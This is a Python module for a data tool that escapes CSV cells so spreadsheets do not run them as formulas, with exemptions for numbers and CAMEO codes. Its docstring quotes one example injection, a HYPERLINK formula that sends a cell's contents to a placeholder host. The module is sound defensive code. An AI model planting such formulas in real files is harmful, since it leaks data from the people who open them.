"""CSV cells that a spreadsheet will not run as formulas.

A spreadsheet evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a
leading tab or carriage return) as a formula, quoted or not: an article's URL such as
``=HYPERLINK("http://evil.invalid/?"&A1, "click")`` would run when the file is opened. Every
CSV (and GDELT tab-separated) file dyad writes therefore passes its string cells through
:func:`safe_cell`, which puts a ``'`` in front of such a cell, as OWASP recommends
(https://owasp.org/www-community/attacks/CSV_Injection); spreadsheets show the cell as text
and hide the ``'``.

Numbers are never touched: ints and floats (a Goldstein of ``-10.0``) are written as they
are, and so are strings that are just a number (``"-9.2"``) or dashes then capitals and digits
(the CAMEO code ``---GOV`` of an actor without a country), which call nothing.

To write cells exactly as they are (for a program, not a person, reading the file): the
``--raw-csv`` option of ``dyad code``, ``dyad export`` and ``dyad sql``, the environment
variable ``DYAD_RAW_CSV=1``, ``raw=True`` here, or the :func:`raw_cells` context.
"""

from __future__ import annotations

import csv
import os
import re
from collections.abc import Iterable, Iterator, Mapping
from contextlib import contextmanager
from contextvars import ContextVar
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ENV = "DYAD_RAW_CSV"
RAW_HELP = (
    "--raw-csv: write CSV cells exactly, without the leading ' that stops spreadsheets running cells "
    "that start with = + - @ as formulas (also: DYAD_RAW_CSV=1). --safe-csv (the default): add it."
)

# run nothing, so left alone: a number ("-9.2", "+1", "-1e5"), or dashes then capitals and digits
# (the CAMEO code of an actor without a country, "---GOV"; at most a cell reference, no call)
_INERT = re.compile(r"(?:[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?|-+[A-Z0-9]*)\Z")
_STARTS = frozenset(FORMULA_START)
_raw: ContextVar[bool | None] = ContextVar("dyad_raw_csv", default=None)


def env_raw() -> bool:
    """Whether ``DYAD_RAW_CSV`` asks for raw cells (1, true, yes, on)."""
    return os.environ.get(ENV, "").strip().lower() in ("1", "true", "yes", "on")


def raw_default() -> bool:
    """Raw cells or safe ones when a writer is not told: the :func:`raw_cells` context, else the environment."""
    value = _raw.get()
    return env_raw() if value is None else value


@contextmanager
def raw_cells(raw: bool | None) -> Iterator[None]:
    """Within the block, writers that are not told otherwise write raw (``True``) or safe (``False``)
    cells; ``None`` leaves the default (the environment) alone."""
    token = _raw.set(raw)
    try:
        yield
    finally:
        _raw.reset(token)


def safe_cell(value: Any) -> Any:
    """``value`` with a ``'`` in front when it is a string a spreadsheet would run as a formula."""
    if isinstance(value, str) and value[:1] in _STARTS and not _INERT.match(value):
        return "'" + value
    return value


def safe_row(values: Iterable[Any], raw: bool | None = None) -> list[Any]:
    """Every cell of a row through :func:`safe_cell` (unless ``raw``; ``None``: :func:`raw_default`)."""
    if raw is None:
        raw = raw_default()
    if raw:
        return list(values)
    return [safe_cell(v) for v in values]


class Writer:
    """``csv.writer`` whose rows go through :func:`safe_row`."""

    def __init__(self, fh, raw: bool | None = None, **kwargs: Any):
        self._w = csv.writer(fh, **kwargs)
        self.raw = raw_default() if raw is None else raw

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._w.writerow(safe_row(row, self.raw))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class DictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose values (and header) go through :func:`safe_cell`."""

    def __init__(self, fh, fieldnames, raw: bool | None = None, **kwargs: Any):
        super().__init__(fh, fieldnames, **kwargs)
        self.raw = raw_default() if raw is None else raw

    def writeheader(self) -> Any:
        return self.writer.writerow(safe_row(self.fieldnames, self.raw))

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        if not self.raw:
            rowdict = {k: safe_cell(v) for k, v in rowdict.items()}
        return super().writerow(rowdict)

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        # csv.DictWriter.writerows writes through its inner writer, past writerow: route it back
        for rowdict in rowdicts:
            self.writerow(rowdict)
